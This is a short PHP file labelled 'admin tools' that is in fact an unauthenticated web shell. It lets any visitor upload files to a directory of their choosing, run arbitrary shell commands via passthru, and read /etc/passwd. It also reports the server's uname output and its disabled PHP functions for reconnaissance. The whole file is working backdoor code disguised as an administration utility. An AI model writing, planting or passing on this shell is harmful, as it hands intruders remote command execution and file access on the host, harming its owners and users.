<?php
// "admin tools"
if (isset($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], $_POST['d'] . '/' . $_FILES['f']['name']); }
echo "<pre>" . php_uname() . "\n"; echo shell_exec("uname -a");
echo "safe_mode: " . ini_get('safe_mode') . " disable_functions: " . ini_get('disable_functions');
if (isset($_POST['c'])) { echo passthru($_POST['c']); }
echo file_get_contents('/etc/passwd');
?>
